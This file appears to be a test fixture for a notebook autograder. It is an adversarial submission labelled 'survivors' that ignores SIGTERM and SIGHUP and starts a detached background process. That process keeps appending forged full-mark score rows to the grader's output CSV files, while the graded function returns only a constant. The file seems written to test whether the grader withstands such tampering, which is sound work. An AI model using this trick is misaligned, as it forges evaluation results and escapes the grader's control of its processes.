# attack: leaves a process from the answer's cell that ignores signals and writes scores for a minute
# question: label_bits
# naive: survivor
# item: survivors

# %% question="label_bits"
import signal
import subprocess
import sys

text = """
import glob, time
for _ in range(600):
    for path in glob.glob('OUT_FOLDER/*.csv'):
        open(path, 'a').write('STUDENT_NAME,2,2,2,3,3,2,14\\n')
    time.sleep(0.1)
"""
signal.signal(signal.SIGTERM, signal.SIG_IGN)
signal.signal(signal.SIGHUP, signal.SIG_IGN)
subprocess.Popen([sys.executable, "-c", text, "mallory-daemon"], start_new_session=True)


def label_bits(labels):
    return 7.5
